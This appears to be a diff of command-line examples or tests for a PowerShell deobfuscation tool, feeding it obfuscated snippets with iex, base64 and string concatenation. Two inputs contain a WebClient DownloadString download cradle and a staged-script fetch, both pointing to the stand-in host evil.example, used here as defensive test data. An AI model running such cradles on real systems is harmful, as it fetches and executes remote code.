@@ -1,0 +1,10 @@
+  $ echo "iex ('write'+'-host hi')" | invoke_deobfuscation deobfuscate -
+  $ printf "%s" "ie\`x ([Convert]::FromBase64String('eA=='))" | invoke_deobfuscation score -
+  $ echo "write-host hello" | invoke_deobfuscation tokens -
+  $ echo "('a'+'b')" | invoke_deobfuscation ast -
+  $ echo "(New-Object Net.WebClient).DownloadString('http://evil.example/x') | Out-Null" | invoke_deobfuscation run -
+  $ echo "powershell -File C:\\x\\stage.ps1 # fetch http://evil.example/a.ps1 at 10.0.0.1" | invoke_deobfuscation keyinfo -
+  $ echo "write-host roundtrip" | invoke_deobfuscation obfuscate --seed 9 -t encode-bxor - | invoke_deobfuscation deobfuscate -
+  $ printf "%s" "\$a = 'se'+'cret'; write-host \$a" | invoke_deobfuscation deobfuscate --no-tracing -
+  $ echo "if(1){  write-host   hi }" | invoke_deobfuscation format -
+  $ echo "iex ('write-host '+'hi')" | invoke_deobfuscation report - | head -6
